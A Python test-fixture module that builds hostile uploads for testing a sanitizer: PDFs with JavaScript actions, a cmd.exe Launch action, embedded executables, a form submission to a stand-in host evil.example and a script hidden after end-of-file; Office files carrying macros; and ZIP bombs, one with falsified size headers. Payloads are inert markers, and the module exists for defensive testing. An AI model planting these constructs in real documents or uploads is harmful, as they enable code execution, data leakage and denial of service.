"""Hostile uploads, built here: PDFs that run scripts, launch programs or carry files;
office files with macros; ZIP bombs, one of them lying in its directory about its size.

Each PDF holds its active parts under a marker (ACTIVE-...) and an ordinary page with
BODY and an http link, so a test can check that the first went and the rest stayed.
"""

from __future__ import annotations

import functools
import io
import re
import struct
import zipfile
import zlib

import pikepdf

BODY = "Our radio shows reach 12 villages"
LINK = "https://example.org/our-report"
MB = 1024 * 1024
Name, Dictionary, Array, String = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.String


def _script(marker: str) -> pikepdf.Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(f"app.alert('ACTIVE-{marker}')"))


def _link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary, **extra) -> None:
    """A link annotation on the first page, doing `action` when clicked."""
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link,
                                         Rect=Array([0, 0, 50, 50]), A=action, **extra))
    pdf.pages[0].obj.Annots.append(annot)


def _pdf(dress) -> bytes:
    """A one-page PDF with BODY and an http link, then `dress(pdf)` adds what is hostile."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.pages[0].Contents = pdf.make_stream(f"BT /F1 12 Tf 20 100 Td ({BODY}) Tj ET".encode())
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array())
    _link(pdf, Dictionary(S=Name.URI, URI=String(LINK)))
    dress(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _attachment(pdf: pikepdf.Pdf, marker: str) -> pikepdf.Dictionary:
    payload = pdf.make_stream(b"MZ ACTIVE-" + marker.encode(), Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String("tool.exe"), EF=Dictionary(F=payload))


def _open_action(pdf):
    pdf.Root.OpenAction = _script("open-action")


def _additional_actions(pdf):
    pdf.Root.AA = Dictionary(WC=_script("catalogue-aa"))
    pdf.pages[0].obj.AA = Dictionary(O=_script("page-aa"))
    _link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])),
          AA=Dictionary(E=_script("annotation-aa")))


def _names_javascript(pdf):
    tree = Dictionary(Names=Array([String("init"), pdf.make_indirect(_script("names-tree"))]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def _embedded_file(pdf):
    files = Dictionary(Names=Array([String("tool.exe"), _attachment(pdf, "embedded")]))
    pdf.Root.Names = Dictionary(EmbeddedFiles=files)
    pdf.pages[0].obj.Annots.append(pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([60, 0, 80, 20]),
        FS=_attachment(pdf, "file-annotation"))))


def _launch(pdf):
    _link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe"),
                          Win=Dictionary(F=String("cmd.exe"), P=String("/c ACTIVE-launch"))))


def _leaving_actions(pdf):
    _link(pdf, Dictionary(S=Name.SubmitForm, F=String("https://evil.example/ACTIVE-submit")))
    _link(pdf, Dictionary(S=Name.ImportData, F=String("ACTIVE-import.fdf")))
    _link(pdf, Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\ACTIVE-gotor.pdf"),
                          D=Array([0, Name.Fit])))
    _link(pdf, Dictionary(S=Name.URI, URI=String("javascript:ACTIVE-uri()")))
    _link(pdf, Dictionary(S=Name.URI, URI=String("file:///C:/Windows/ACTIVE-calc.exe")))


def _chained_and_xfa(pdf):
    """A harmless open action with a script chained after it; an XFA form with scripts;
    a script kept in a stream of its own."""
    first = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]),
                       Next=Array([_script("next-chain")]))
    pdf.Root.OpenAction = first
    xfa = pdf.make_stream(b"<xdp:xdp><script>ACTIVE-xfa()</script></xdp:xdp>")
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("name"), AA=Dictionary(
        K=Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"ACTIVE-stream-js()")))))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa, NeedsRendering=True)


PDFS = {"open_action": _open_action, "additional_actions": _additional_actions,
        "names_javascript": _names_javascript, "embedded_file": _embedded_file,
        "launch": _launch, "leaving_actions": _leaving_actions,
        "chained_and_xfa": _chained_and_xfa}

def _after_the_end(pdf):
    """A script in an object that no table lists, after the end of the file: pikepdf does
    not see it, a reader that repairs files might."""
    pdf.Root.Names = Dictionary()  # nothing active that pikepdf can find


TRAILERS = {"after_the_end": b"\n9 0 obj <</S/JavaScript/JS(app.alert('ACTIVE-eof'))>>\n"
                             b"endobj\n10 0 obj <</Type/Catalog/OpenAction 9 0 R>> endobj\n"}
PDFS["after_the_end"] = _after_the_end

_ACTIVE_NAMES = re.compile(rb"/(JavaScript|JS|AA|EF|EmbeddedFiles?|XFA|NeedsRendering|Launch|"
                           rb"SubmitForm|ImportData|GoToR|GoToE|FileAttachment)(?![A-Za-z0-9])")


def pdf(name: str) -> bytes:
    return _pdf(PDFS[name]) + TRAILERS.get(name, b"")


def pdf_problems(data: bytes) -> list[str]:
    """What active content a PDF still holds, read with every stream inflated (qdf form)
    and in its raw bytes, independently of the code under test; and whether its page and
    link survived."""
    with pikepdf.open(io.BytesIO(data)) as doc:
        out = io.BytesIO()
        doc.save(out, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable,
                 stream_decode_level=pikepdf.StreamDecodeLevel.all)
        body = BODY.encode() in doc.pages[0].Contents.read_bytes()
    text = out.getvalue()
    problems = sorted({m.group().decode() for m in _ACTIVE_NAMES.finditer(text)})
    problems += ["ACTIVE marker"] if b"ACTIVE-" in text else []
    problems += ["in the bytes as sent"] if b"ACTIVE-" in data or _ACTIVE_NAMES.search(
        data) else []
    problems += [] if body and LINK.encode() in text else ["page or link lost"]
    return problems


# Office files -----------------------------------------------------------------------------

_CT = "http://schemas.openxmlformats.org/package/2006/"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_DOC = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f'<w:body><w:p><w:r><w:t>{BODY}</w:t></w:r></w:p></w:body></w:document>')


def _types(main: str = _MAIN, extra: str = "") -> str:
    return (f'<Types xmlns="{_CT}content-types"><Default Extension="rels" ContentType='
            f'"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName='
            f'"/word/document.xml" ContentType="{main}"/>{extra}</Types>')


def _zip(entries: list[tuple[str, str | bytes]], stored_first: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for i, (name, content) in enumerate(entries):
            kind = zipfile.ZIP_STORED if stored_first and i == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (2026, 5, 3, 10, 11, 12)), content, kind)
    return out.getvalue()


def docx(*extra: tuple[str, str | bytes], types: str | None = None) -> bytes:
    return _zip([("[Content_Types].xml", types or _types()),
                 ("_rels/.rels", f'<Relationships xmlns="{_CT}relationships"/>'),
                 ("word/document.xml", _DOC), *extra])


def odt(content: str | None = None, *extra: tuple[str, str | bytes]) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    return _zip([("mimetype", "application/vnd.oasis.opendocument.text"),
                 ("content.xml", content or f'<office:document-content xmlns:office="{office}">'
                  f'<office:body><office:text>{BODY}</office:text></office:body>'
                  '</office:document-content>'), *extra], stored_first=True)


_EVENT = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:'
          '1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><office:scripts>'
          '<office:event-listeners><script:event-listener script:language="ooo:script" '
          'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
          'language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'
          f'<office:body><office:text>{BODY}</office:text></office:body></office:document-content>')

MACROS = {
    "docx_vba_project": lambda: docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 Attribute VB"),
                                     types=_types(_MACRO_MAIN)),
    "docx_macro_content_type": lambda: docx(types=_types(_MACRO_MAIN)),
    "docx_activex": lambda: docx(("word/activeX/activeX1.bin", b"\xd0\xcf\x11\xe0")),
    "odt_basic": lambda: odt(None, ("Basic/Standard/Module1.xml", "<script:module/>")),
    "odt_event_listener": lambda: odt(_EVENT),
}


def _inflating_docx(size: int) -> bytes:
    """A DOCX whose document.xml inflates to `size` bytes, streamed in, never held."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _types())
        with archive.open("word/document.xml", "w") as part:
            head = _DOC[:-len("</w:body></w:document>")].encode()
            part.write(head)
            piece = b"<w:p/>" * (MB // 6)
            left = size - len(head)
            while left > 0:
                part.write(piece[:left])
                left -= len(piece)
    return out.getvalue()


@functools.cache
def bomb() -> bytes:
    """document.xml inflates to 200 MB (from about 300 KB), its directory telling so."""
    return _inflating_docx(200 * MB)


@functools.cache
def lying_bomb() -> bytes:
    """The same, its directory and local header claiming 4 KiB, with the checksum of the
    first 4 KiB: a reader that trusts the header sees a small, sound file."""
    data = bytearray(bomb())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/document.xml")
        with archive.open(info) as part:
            crc = zlib.crc32(part.read(4096))
    for at in _records(data, b"PK\x01\x02", 28, 46):
        struct.pack_into("<I", data, at + 16, crc)
        struct.pack_into("<I", data, at + 24, 4096)
    struct.pack_into("<I", data, info.header_offset + 14, crc)
    struct.pack_into("<I", data, info.header_offset + 22, 4096)
    return bytes(data)


def _records(data: bytearray, signature: bytes, name_at: int, name_from: int):
    """Offsets of the directory records naming word/document.xml."""
    start = 0
    while (at := data.find(signature, start)) >= 0:
        size = struct.unpack_from("<H", data, at + name_at)[0]
        if data[at + name_from:at + name_from + size] == b"word/document.xml":
            yield at
        start = at + 4


@functools.cache
def steep_docx() -> bytes:
    """Under the total limit (30 MB), but a thousand times its compressed size."""
    return _inflating_docx(30 * MB)


BOMBS = {"bomb_200_mb": bomb, "lying_header": lying_bomb, "steep_ratio": steep_docx}

